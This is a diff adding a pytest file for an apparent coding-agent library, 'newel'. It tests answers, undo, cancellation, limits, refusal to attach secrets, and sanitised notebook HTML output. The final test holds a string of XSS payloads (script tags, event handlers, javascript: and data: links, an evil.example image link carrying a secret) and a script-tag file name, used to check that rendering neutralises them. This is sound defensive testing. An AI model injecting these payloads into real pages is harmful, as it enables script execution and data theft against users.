@@ -1,0 +1,255 @@
+"""If these fail, a script or a notebook gets no answer, a broken session, or a page that a model takes over."""
+
+from __future__ import annotations
+
+import os
+import re
+import signal
+import subprocess
+import sys
+from collections.abc import Callable
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+
+import newel
+from newel.agent.errors import ConnectionFailed, UsageError, WorkspaceError
+from newel.agent.messages import AssistantMessage, ToolResultMessage, UserMessage
+from newel.review.model.history import NothingToUndo
+from tests.served import wait_until
+from tests.support import Newel, bash, scenario
+
+Make = Callable[..., Newel]
+
+EDITS = scenario("edit", bash("echo a > a.txt; rm b.txt"), {"content": "Edited."})
+
+
+@pytest.fixture
+def with_model(with_model: Make, monkeypatch: pytest.MonkeyPatch) -> Make:
+    """As for commands, in this process: its settings and its folder."""
+
+    def make(*arguments: object) -> Newel:
+        rig = with_model(*arguments)
+        for name in ("LLM_BASE_URL", "LLM_AUTH_TOKEN", "LLM_DEFAULT_MODEL"):
+            monkeypatch.setitem(os.environ, name, rig.environ[name])
+        monkeypatch.setitem(os.environ, "NEWEL_HOME", str(rig.home / ".newel"))
+        monkeypatch.chdir(rig.project)
+        (rig.project / "b.txt").write_text("b\n")
+        return rig
+
+    return make
+
+
+def test_an_answer_has_the_text_the_messages_the_changes_and_the_costs(
+    with_model: Make, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rig = with_model(EDITS)
+    answer = newel.ask("edit")
+    assert (answer.text, str(answer), answer.reason, answer.problem) == ("Edited.", "Edited.", "done", "")
+    assert [type(message) for message in answer.messages] == [
+        UserMessage,
+        AssistantMessage,
+        ToolResultMessage,
+        AssistantMessage,
+    ]
+    assert [(file.file_path, file.change) for file in answer.changes] == [
+        ("a.txt", "created"),
+        ("b.txt", "deleted"),
+    ]
+    assert answer.changes[0].hunks
+    assert "+a" in answer.changes[0].patch
+    assert answer.usage.total > 0
+    assert answer.cost is None
+    assert answer.session in rig.sessions[0].name
+    assert repr(answer) == "Answer('Edited.', changes=['a.txt', 'b.txt'], reason='done')"
+    assert capsys.readouterr().out == "", "progress was not asked for"
+
+
+def test_progress_is_printed_on_request_and_controls_no_terminal(
+    with_model: Make, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with_model(scenario("go", {"content": "Hi\x1b]0;title\x07 there."}))
+    answer = newel.ask("go", progress=True)
+    assert "Hi there." in capsys.readouterr().out
+    assert str(answer) == "Hi there."
+    assert answer.text == "Hi\x1b]0;title\x07 there."
+
+
+@pytest.mark.parametrize("approve", ["auto", "review"])
+def test_an_answer_can_be_undone_once(with_model: Make, approve: Any) -> None:
+    rig = with_model(EDITS)
+    answer = newel.ask("edit", approve=approve)
+    assert (rig.project / "a.txt").exists() == (approve == "auto")
+    assert answer.undo() == ["a.txt", "b.txt"]
+    assert [path.name for path in rig.project.iterdir()] == ["b.txt"]
+    with pytest.raises(NothingToUndo):
+        answer.undo()
+    assert rig("review", "--check").returncode == 0
+
+
+def test_changes_that_were_not_recorded_cannot_be_undone(with_model: Make) -> None:
+    with_model(EDITS)
+    answer = newel.ask("edit", ephemeral=True)
+    assert answer.changes
+    with pytest.raises(NothingToUndo):
+        answer.undo()
+
+
+@pytest.mark.anyio
+async def test_it_works_where_a_loop_is_running_as_in_a_notebook(with_model: Make) -> None:
+    rig = with_model(EDITS)
+    answer = newel.ask("edit")
+    assert answer.undo() == ["a.txt", "b.txt"]
+    again = await newel.aask("edit", session=answer.session)
+    assert again.session == answer.session
+    assert len(rig.sessions) == 1
+    assert await again.aundo() == ["a.txt", "b.txt"]
+
+
+@pytest.mark.anyio
+async def test_a_cancelled_question_ends_its_command(with_model: Make) -> None:
+    rig = with_model(scenario("wait", bash("echo $$ > pid; sleep 60")))
+    pid = rig.project / "pid"
+
+    async def cancel_once_begun(scope: anyio.CancelScope) -> None:
+        while not (pid.exists() and pid.read_text().strip()):  # noqa: ASYNC110 — a file sends no notification
+            await anyio.sleep(0.01)
+        scope.cancel()
+
+    with anyio.fail_after(9):
+        async with anyio.create_task_group() as tasks:
+            tasks.start_soon(cancel_once_begun, tasks.cancel_scope)
+            await newel.aask("wait")
+    assert not (Path("/proc") / pid.read_text().strip()).exists()
+
+
+def test_ctrl_c_aborts_the_run_and_leaves_a_session_that_can_be_continued(with_model: Make) -> None:
+    rig = with_model(
+        {
+            "scenarios": scenario("wait", bash("echo $$ > pid; sleep 60"))["scenarios"]
+            + scenario("more", {"content": "More."})["scenarios"]
+        }
+    )
+    code = "import newel\ntry: newel.ask('wait')\nexcept KeyboardInterrupt: print('interrupted')\n"
+    code += "print(newel.ask('more', continue_=True))"
+    environ = rig.environ | {"NEWEL_HOME": str(rig.home / ".newel")}
+    with subprocess.Popen(
+        [sys.executable, "-c", code], cwd=rig.project, env=environ, stdout=subprocess.PIPE, text=True
+    ) as program:
+        try:
+            pid = rig.project / "pid"
+            wait_until(lambda: pid.exists() and pid.read_text().strip(), "the command")
+            program.send_signal(signal.SIGINT)
+            assert program.communicate(timeout=10)[0] == "interrupted\nMore.\n"
+        finally:
+            program.kill()
+    assert not (Path("/proc") / pid.read_text().strip()).exists()
+    sent = rig.requests[-1]["messages"]
+    assert [message["role"] for message in sent][1:] == ["user", "assistant", "tool", "user"]
+
+
+def test_a_limit_ends_the_run_and_the_answer_says_so(with_model: Make) -> None:
+    with_model(scenario("edit", bash("echo a > a.txt"), {"content": "Edited."}))
+    answer = newel.ask("edit", max_turns=1)
+    assert answer.reason == "max_turns"
+    assert "turn" in answer.problem
+
+
+def test_a_server_that_is_not_there_is_an_error_of_newel(with_model: Make) -> None:
+    rig = with_model()
+    (rig.home / ".newel").mkdir()
+    (rig.home / ".newel" / "config.toml").write_text("[retry]\nattempts = 1\n")
+    with pytest.raises(ConnectionFailed):
+        newel.ask("hi", base_url="http://127.0.0.1:1/v1")
+
+
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"approve": "everything"}, "approve: invalid"),
+        ({"max_turns": 0}, "max_turns is 0"),
+        ({"max_cost": float("nan")}, "max_cost is nan"),
+        ({"continue_": True, "ephemeral": True}, "exclude each other"),
+    ],
+)
+def test_a_wrong_option_is_refused_before_anything_runs(with_model: Make, options: Any, message: str) -> None:
+    rig = with_model(EDITS)
+    with pytest.raises(UsageError, match=message):
+        newel.ask("edit", **options)
+    with pytest.raises(UsageError, match="prompt is empty"):
+        newel.ask(" \n")
+    assert rig.requests == []
+
+
+def test_a_file_is_attached_by_its_path_unless_it_is_secret(with_model: Make) -> None:
+    rig = with_model(scenario("read", {"content": "Read."}))
+    newel.ask("read", attachments=[Path("b.txt")])
+    assert "b\n" in str(rig.requests[0]["messages"][-1]["content"][1]["text"])
+    (rig.project / "config.toml").symlink_to(rig.home / ".newel" / "config.toml")
+    (rig.home / ".newel" / "config.toml").write_text("api_key = 'secret'\n")
+    with pytest.raises(WorkspaceError, match="secret"):
+        newel.ask("read", attachments=[Path("config.toml")])
+
+
+def test_a_tool_whose_name_is_taken_is_refused(with_model: Make) -> None:
+    with_model()
+    mine = newel.coding_tools(newel.LocalWorkspace("."))[:1]
+    with pytest.raises(UsageError, match="has a tool `read` already"):
+        newel.ask("hi", tools=mine)
+
+
+class Elements(HTMLParser):
+    """The elements of a page and their attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+HOSTILE = """
+<script>alert(1)</script> <img src=x onerror=alert(1)> ![x](https://evil.example/x.png?secret) [a](javascript:alert(1))
+[b](data:text/html,<script>alert(1)</script>) [c](https://example.org "onmouseover=alert(1)") <https://example.org/"><script>>
+[d]: javascript:alert(1) "x"
+[d]
+
+```py"><script>alert(1)</script>
+</code></pre><script>alert(1)</script>
+```
+
+| a<script> | b |
+|---|---|
+| <svg onload=alert(1)> | ![y][z] |
+
+[z]: https://evil.example/y.png
+$\\href{javascript:alert(1)}{x}$ &lt;script&gt;
+"""
+
+
+def test_nothing_that_a_model_wrote_acts_in_a_notebook(with_model: Make) -> None:
+    """A notebook's page has the user's rights: a script in it can run code in the kernel."""
+    writes = bash("echo '</pre><script>alert(1)</script>' > '<script>alert(1)'")
+    with_model(scenario("go", writes, {"content": HOSTILE}))
+    answer = newel.ask("go")
+    assert [file.file_path for file in answer.changes] == ["<script>alert(1)"]
+    page = Elements()
+    show: Callable[[], str] = getattr(answer, "_repr_html_")  # noqa: B009 — Jupyter calls it so
+    html = show()
+    page.feed(html)
+    tags = {tag for tag, _ in page.found}
+    assert tags <= {
+        *("div", "p", "pre", "code", "a", "details", "summary", "small", "strong", "em"),
+        *("table", "thead", "tbody", "tr", "th", "td", "br"),
+    }
+    attributes = {(tag, key) for tag, attrs in page.found for key in attrs}
+    assert attributes <= {("div", "class"), ("code", "class"), ("a", "href"), ("a", "title")}
+    links = [attrs["href"] or "" for tag, attrs in page.found if tag == "a"]
+    assert links
+    assert all(re.match(r"https?://", link) for link in links)
+    assert 'class="newel-answer mathjax_ignore tex2jax_ignore"' in html
+    assert not hasattr(answer, "_repr_markdown_")
